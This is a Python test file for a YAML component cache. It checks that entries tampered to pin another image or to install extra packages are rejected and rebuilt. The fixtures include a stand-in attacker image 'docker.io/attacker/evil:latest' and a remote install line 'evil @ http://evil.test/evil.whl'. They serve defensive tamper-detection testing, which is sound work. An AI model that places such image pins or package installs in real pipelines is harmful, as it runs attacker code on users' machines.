"""The component-YAML cache: an entry is used only when its bytes are those stored and
it pins the image this release pins; anything else is discarded and generated again,
with one line saying so. A cache that cannot be written is not fatal."""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest

from kiln._components import generate as generate_module
from kiln._components.catalog import read_yaml, yaml_documents
from kiln._components.generate import (
    YamlCache,
    generate_component,
    header,
    inputs_key,
    pinned_images,
    pins_exactly,
)
from kiln._components.parsed import ParsedYamls
from kiln._workspace.model import Component
from tests.damage import replace_file

IMAGE = "127.0.0.1:5765/acme/base@sha256:" + "ab" * 32
EVIL = "docker.io/attacker/evil:latest"


@pytest.fixture
def component(tmp_path: Path) -> Component:
    source = tmp_path / "src" / "vision.py"
    source.parent.mkdir()
    source.write_text(
        textwrap.dedent('''
            def enhance(gamma: float) -> str:
                """Enhance."""
                return str(gamma)
        ''')
    )
    return Component(name="enhance", path=source, image="base")


class Generation:
    """``YamlCache.get`` of one component, counting the times KFP compiled it."""

    def __init__(
        self,
        tmp_path: Path,
        component: Component,
        folder: Path,
        packages: dict[str, list[str]] | None = None,
    ) -> None:
        self.out = tmp_path / "out"
        self.component = component
        self.packages = packages
        self.lines: list[str] = []
        self.cache = YamlCache(folder, note=self.lines.append)
        self.key = inputs_key(kind="component", name=component.name, image=IMAGE)
        self.made = 0

    def make(self) -> Path:
        self.made += 1
        return generate_component(
            self.component, IMAGE, self.out, packages=self.packages, source="src/vision.py"
        )

    def run(self) -> bytes:
        installs = (self.packages or {}).get("packages_to_install", ())
        check = pins_exactly(
            IMAGE, starts=header(self.component, "src/vision.py"), installs=installs
        )
        path = self.cache.get(self.key, self.out / "enhance.yaml", self.make, check)
        return path.read_bytes()

    def entry(self) -> Path:
        (entry,) = (self.cache.folder or Path()).glob("*/*.yaml")
        return entry


def test_a_hit_is_served_without_compiling(tmp_path: Path, component: Component) -> None:
    gen = Generation(tmp_path, component, tmp_path / "cache")
    first = gen.run()
    assert gen.run() == first
    assert gen.made == 1
    assert gen.lines == []
    assert pinned_images(first) == {IMAGE}


def test_an_entry_pinning_another_image_is_discarded_and_rebuilt(
    tmp_path: Path, component: Component
) -> None:
    gen = Generation(tmp_path, component, tmp_path / "cache")
    good = gen.run()
    entry = gen.entry()
    replace_file(entry, entry.read_bytes().replace(IMAGE.encode(), EVIL.encode()))
    assert gen.run() == good
    assert gen.made == 2
    assert len(gen.lines) == 1
    assert f"component cache entry {entry} did not match its key" in gen.lines[0]
    assert gen.lines[0].endswith("; rebuilt")
    assert pinned_images(entry.read_bytes().partition(b"\n")[2]) == {IMAGE}  # stored again


def test_an_evil_entry_with_a_matching_sha256_line_is_still_refused(
    tmp_path: Path, component: Component
) -> None:
    """Whoever edits an entry can also rewrite its sha256 line: what it pins is checked."""
    gen = Generation(tmp_path, component, tmp_path / "cache")
    good = gen.run()
    entry = gen.entry()
    evil = good.replace(IMAGE.encode(), EVIL.encode())
    cache = YamlCache(tmp_path / "other")
    cache._store(entry, evil)  # an entry as kiln writes one
    assert gen.run() == good
    assert gen.made == 2
    assert "it runs docker.io/attacker/evil:latest" in gen.lines[0]


@pytest.mark.parametrize("keep", [0, 50, -40])
def test_a_truncated_entry_is_discarded_and_rebuilt(
    tmp_path: Path, component: Component, keep: int
) -> None:
    gen = Generation(tmp_path, component, tmp_path / "cache")
    good = gen.run()
    entry = gen.entry()
    replace_file(entry, entry.read_bytes()[:keep])
    assert gen.run() == good
    assert gen.run() == good
    assert gen.made == 2  # rebuilt once, then served from the cache again
    assert len(gen.lines) == 1


def test_an_unwritable_cache_generates_without_it_and_says_so_once(
    tmp_path: Path, component: Component
) -> None:
    blocked = tmp_path / "cache"
    blocked.write_text("a file where the cache folder should be")  # fails even as root
    gen = Generation(tmp_path, component, blocked)
    first = gen.run()
    assert gen.run() == first
    assert gen.made == 2
    assert len(gen.lines) == 1
    assert gen.lines[0].startswith(f"component cache {blocked} cannot be written")


PACKAGES = {
    "packages_to_install": [
        "--no-deps",
        "--require-hashes",
        f"tiny @ http://127.0.0.1:8765/packages/tiny-1.0-py3-none-any.whl#sha256={'a' * 64}",
    ],
    "pip_index_urls": ["http://127.0.0.1:8765/simple/"],
    "pip_trusted_hosts": ["127.0.0.1:8765"],
}


def test_a_packages_mode_entry_is_served_and_one_installing_more_is_rebuilt(
    tmp_path: Path, component: Component
) -> None:
    gen = Generation(tmp_path, component, tmp_path / "cache", packages=PACKAGES)
    good = gen.run()
    assert gen.run() == good
    assert (gen.made, gen.lines) == (1, [])
    evil = good.replace(b"'--no-deps'", b"'--no-deps' 'evil @ http://evil.test/evil.whl'")
    assert evil != good
    YamlCache(tmp_path / "other")._store(gen.entry(), evil)  # an entry as kiln writes one
    assert gen.run() == good
    assert gen.made == 2
    (line,) = gen.lines
    assert "it installs other packages (evil @ http://evil.test/evil.whl)" in line


def test_a_hit_leaves_a_target_holding_its_bytes_as_it_is(
    tmp_path: Path, component: Component
) -> None:
    """A no-op release rewrote every committed YAML from the cache (1004 at N=500, 0.9 s);
    one already holding the bytes is left alone, one that differs is written whole."""
    gen = Generation(tmp_path, component, tmp_path / "cache")
    first = gen.run()
    target = gen.out / "enhance.yaml"
    before = target.stat()
    assert gen.run() == first
    after = target.stat()
    assert (after.st_ino, after.st_mtime_ns) == (before.st_ino, before.st_mtime_ns)
    target.write_bytes(first.replace(b"Enhance.", b"Edited!."))  # same size, other bytes
    assert gen.run() == first
    assert target.read_bytes() == first
    assert gen.made == 1


def test_a_hit_parses_its_yaml_once_for_the_check_and_the_catalog(
    tmp_path: Path, component: Component
) -> None:
    """Each YAML was parsed twice per release (the cache's check, then its catalog row:
    2 ms each, 1004 YAMLs at N=500)."""
    gen = Generation(tmp_path, component, tmp_path / "cache")
    gen.run()
    yaml_documents.cache_clear()
    data = gen.run()
    description, inputs, _outputs = read_yaml(gen.out / "enhance.yaml")
    assert (yaml_documents.cache_info().misses, yaml_documents.cache_info().hits) == (1, 1)
    assert description == "Enhance."
    assert inputs == (("gamma", "float"),)
    assert pinned_images(data) == {IMAGE}


def test_the_cache_key_reads_kfp_s_version_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """importlib.metadata parses kfp's METADATA on each call: 1063 calls, 2 s of a
    profiled no-op release at N=500."""
    asked: list[str] = []

    def counting(dist: str) -> str:
        asked.append(dist)
        return "2.17.3"

    monkeypatch.setattr(generate_module, "version", counting)
    generate_module._kfp_version.cache_clear()
    keys = {inputs_key(kind="component", name=f"c{i}") for i in range(3)}
    generate_module._kfp_version.cache_clear()  # the real version for the tests after
    assert len(keys) == 3
    assert asked == ["kfp"]


def test_a_yaml_parsed_on_one_run_is_read_from_json_on_the_next(
    tmp_path: Path, component: Component
) -> None:
    """A no-op release at N=500 parsed 1004 YAMLs that the last run had parsed (1-3 s):
    their documents are kept as JSON by the bytes' sha256, equal and in the same order."""
    gen = Generation(tmp_path, component, tmp_path / "cache")
    data = gen.run()
    target = gen.out / "enhance.yaml"
    check = pins_exactly(IMAGE, starts=header(component, "src/vision.py"))
    first = ParsedYamls(tmp_path / "parsed")
    assert check(data) is None  # the default parser
    assert pins_exactly(IMAGE, starts=header(component, "src/vision.py"), parse=first)(data) is None
    row = read_yaml(target, first)
    assert first.parsed == 1  # once for the check and the row
    again = ParsedYamls(tmp_path / "parsed")  # the next run
    assert pinned_images(data, again) == {IMAGE}
    assert read_yaml(target, again) == row == read_yaml(target)
    assert again.parsed == 0
    assert json.dumps(again(data)) == json.dumps(yaml_documents(data))  # order kept
    evil = data.replace(IMAGE.encode(), EVIL.encode())  # other bytes: parsed, refused
    assert check(evil) is not None
    assert pins_exactly(IMAGE, starts=header(component, "src/vision.py"), parse=again)(evil)
    assert again.parsed == 1


@pytest.mark.parametrize("damage", ["truncated", "edited"])
def test_a_damaged_parsed_yaml_is_parsed_again(
    tmp_path: Path, component: Component, damage: str
) -> None:
    data = Generation(tmp_path, component, tmp_path / "cache").run()
    ParsedYamls(tmp_path / "parsed")(data)
    (kept,) = (tmp_path / "parsed").glob("*/*.json")
    raw = kept.read_bytes()
    replace_file(
        kept, raw[:-10] if damage == "truncated" else raw.replace(IMAGE.encode(), EVIL.encode())
    )
    again = ParsedYamls(tmp_path / "parsed")
    assert pinned_images(data, again) == {IMAGE}
    assert again.parsed == 1
